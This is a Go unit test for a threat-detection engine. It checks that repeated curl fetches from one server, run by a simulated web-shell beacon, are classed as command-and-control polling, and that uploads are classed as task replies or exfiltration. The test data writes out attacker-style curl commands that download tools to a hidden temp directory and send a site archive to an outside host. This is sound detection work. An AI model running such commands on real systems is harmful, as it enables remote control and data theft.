package detect

import "testing"

// TestScriptBeaconPolls: a beacon whose loop is in a script shows only
// its children: the same fetch of one server again and again. From the
// third fetch on the fetch is the beacon polling (stage 7), and an upload
// of a task's output to that server is its reply (channel-task-reply);
// an archive sent there is data taken out and stays exfiltration.
func TestScriptBeaconPolls(t *testing.T) {
	e, s := webShellScene(t)
	e.Observe(s.exec(300, 201, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "/var/tmp/.b/b.sh"), s.tree)
	fetch := func(pid int) *Finding {
		return findingOf(e.Observe(s.exec(pid, 300, 33, "www-data", "/var/www", "/usr/bin/curl", "curl", "-fsS", "-o", "/var/tmp/.b/t", "http://203.0.113.9:8000/t"), s.tree), "ingress-tool-download")
	}
	if f := fetch(301); f == nil || f.Stage == StageCommandAndControl {
		t.Fatalf("the first fetch: %v, want a download, not yet a poll", f)
	}
	fetch(302)
	if f := fetch(303); f == nil || f.Stage != StageCommandAndControl {
		t.Errorf("the third fetch of the same server: %v, want stage 7", f)
	}
	reply := e.Observe(s.exec(304, 300, 33, "www-data", "/var/www", "/usr/bin/curl", "curl", "-fsS", "--data-binary", "@/var/tmp/.b/o", "http://203.0.113.9:8000/o"), s.tree)
	if findingOf(reply, "channel-task-reply") == nil || findingOf(reply, "exfil-upload") != nil {
		t.Errorf("the task's output sent back: %v, want channel-task-reply alone", ids(reply))
	}
	loot := e.Observe(s.exec(305, 300, 33, "www-data", "/var/www", "/usr/bin/curl", "curl", "-fsS", "--data-binary", "@/var/tmp/.b/site.tgz", "http://203.0.113.9:8000/o"), s.tree)
	if findingOf(loot, "exfil-upload") == nil {
		t.Errorf("an archive sent to the beacon's server: %v, want exfil-upload", ids(loot))
	}
}
